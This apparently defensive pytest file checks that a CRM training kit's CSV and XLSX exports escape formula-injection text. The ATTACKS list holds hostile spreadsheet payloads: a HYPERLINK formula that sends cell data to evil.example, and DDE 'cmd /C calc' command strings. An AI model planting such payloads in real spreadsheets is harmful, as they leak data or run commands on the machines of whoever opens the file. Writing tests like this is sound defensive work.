"""CSV and XLSX files the kit writes never carry a live formula; HTML text is escaped."""
from __future__ import annotations

import csv
import io

import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import crm_training
from crm_training.cli import main
from crm_training.exports import (csv_bytes, neutralise_formulas, restore_formulas, write_csv,
                                  write_xlsx)

ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "＝1+1", "'=already"]


def _formula_like(cell: str) -> bool:
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def _cells(text: str):
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def test_every_formula_like_text_cell_is_neutralised_and_numbers_are_not():
    df = pd.DataFrame({"note": ATTACKS, "amount": [-5.0] * len(ATTACKS),
                       "code": pd.Categorical(["=x"] * len(ATTACKS))})
    text = write_csv(df, index=False)
    cells = _cells(text)
    assert not [c for c in cells if _formula_like(c) and c != "-5.0"]
    assert cells.count("-5.0") == len(ATTACKS)  # a negative amount stays a number
    assert restore_formulas(pd.read_csv(io.StringIO(text)))["note"].tolist() == ATTACKS


@settings(max_examples=200, deadline=None)
@given(st.lists(st.one_of(st.none(), st.text(max_size=12)), min_size=1, max_size=8))
def test_neutralising_is_undone_exactly(values):
    df = pd.DataFrame({"t": pd.Series(values, dtype=object)})
    back = restore_formulas(neutralise_formulas(df))
    assert back["t"].tolist() == df["t"].tolist()
    safe = neutralise_formulas(df)["t"].dropna()
    assert not any(_formula_like(v) for v in safe)


def test_headers_and_index_are_neutralised_too():
    df = pd.DataFrame({"=cmd": ["a"]}, index=pd.Index(["@x"], name="+id"))
    text = csv_bytes(df).decode("utf-8-sig")
    assert text.splitlines() == ["'+id,'=cmd", "'@x,a"]


def test_xlsx_cells_are_text_never_formulas(tmp_path):
    path = tmp_path / "x.xlsx"
    write_xlsx(pd.DataFrame({"note": ATTACKS, "n": range(len(ATTACKS))}), path)
    ws = openpyxl.load_workbook(path).active
    notes = [c for c in ws["A"][1:]]
    assert all(c.data_type == "s" for c in notes)
    expected = neutralise_formulas(pd.DataFrame({"note": ATTACKS}))["note"]
    assert [c.value for c in notes] == expected.str.replace("\r", "\n").tolist()  # XML: CR = LF
    assert [c.value for c in ws["B"][1:]] == list(range(len(ATTACKS)))


def test_dataset_csv_round_trip_keeps_hostile_text(tmp_path):
    data = crm_training.generate("retail", 60, seed=1)
    data.customers.loc[:3, "name"] = ATTACKS[:4]
    data.customers.loc[4, "city"] = "'quoted"
    data.save(tmp_path / "d", format="csv")
    raw = (tmp_path / "d" / "customers.csv").read_text(encoding="utf-8")
    assert not [c for c in _cells(raw) if _formula_like(c)]
    back = crm_training.load(tmp_path / "d")
    assert back.customers["name"].tolist()[:4] == ATTACKS[:4]
    assert back.customers.loc[4, "city"] == "'quoted"
    assert "csv_formulas" not in back.meta


def test_validate_outputs_are_neutralised(tmp_path):
    src = tmp_path / "orders.csv"
    src.write_text("Order ID,Customer ID,Order Date,Net Amount,Channel\n"
                   '"=HYPERLINK(""http://x"")",C1,2024-01-05,9.5,store\n'
                   "A2,@C2,2024-01-06,x,store\nA3,+C3,2024-01-07,3,=1+1\n", encoding="utf-8")
    out = tmp_path / "out"
    main(["validate", str(src), "--out", str(out), "--format", "csv", "--quiet"])
    written = [p for p in out.rglob("*.csv")]
    assert {p.name for p in written} >= {"validation.csv", "cleaning.csv", "transactions.csv"}
    for path in written:
        bad = [c for c in _cells(path.read_text(encoding="utf-8")) if _formula_like(c)]
        assert not bad, (path.name, bad)
    back = crm_training.load(out)
    assert set(back.transactions["customer_id"]) >= {"+C3", "C1"}


@pytest.mark.parametrize("value", ["-", "+", "=", "@"])
def test_a_lone_sign_is_neutralised(value):
    assert neutralise_formulas(pd.DataFrame({"a": [value]}))["a"][0] == "'" + value
